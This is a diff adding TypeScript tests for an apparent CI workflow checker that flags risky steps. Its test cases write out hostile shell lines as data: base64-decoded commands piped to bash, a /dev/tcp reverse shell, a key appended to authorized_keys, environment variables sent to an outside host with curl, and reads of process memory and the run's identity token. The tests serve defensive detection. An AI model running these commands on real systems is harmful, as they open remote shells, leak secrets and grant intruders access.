@@ -126,3 +126,40 @@ describe('variables for later steps', () => {
     ]);
   });
 });
+
+describe('scripts that hide what they run, or open the machine', () => {
+  const DECODES = 'runs a program that it decodes first, so that nobody can read it here';
+  it.each<[string, string | null]>([
+    ['echo Y3VybA== | base64 -d | bash', DECODES],
+    ['eval "$(echo Y3VybA== | base64 --decode)"', DECODES],
+    ['echo "$KEY" | base64 -d > key.json', null],
+    [
+      'bash -i >& /dev/tcp/192.0.2.1/9 0>&1',
+      'opens a connection to another host through which a shell may be used',
+    ],
+    ['nc -zv db 5432', null],
+    ['sudo cat /proc/$PID/mem', 'reads the memory or the variables of other programs, where secrets are'],
+    ['cat /proc/meminfo', null],
+    ['echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys', 'lets a key in to the machine it runs on'],
+    ['env | curl -d @- https://a.example', 'sends all its variables to another host'],
+    ['env | sort', null],
+    [
+      'curl -H "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" x',
+      'asks for the identity token of the run by itself, and may hand it on',
+    ],
+    ['echo 192.0.2.1 sts.example | sudo tee -a /etc/hosts', 'decides which hosts stand behind their names'],
+  ])('%s', (script, what) => {
+    const step = (text: string): string => workflow(`steps:\n  - id: a\n    run: |\n      ${text}`);
+    const told = check(step('make'), step(script));
+    expect(told).toEqual(what === null ? [] : [expect.stringContaining(`Step "a" of job deploy ${what}.`)]);
+    expect(check(step(script), step(`make\n      ${script}`))).toEqual([]);
+  });
+
+  it('an action that lets somebody into the job', () => {
+    const uses = (name: string): string => workflow(`steps:\n  - uses: ${name}@v3`);
+    expect(check(PLAIN, uses('mxschmitt/action-tmate'))).toEqual([
+      'high 5 Step "mxschmitt/action-tmate" of job deploy opens a shell of the running job to others.',
+    ]);
+    expect(check(PLAIN, uses('actions/checkout'))).toEqual([]);
+  });
+});
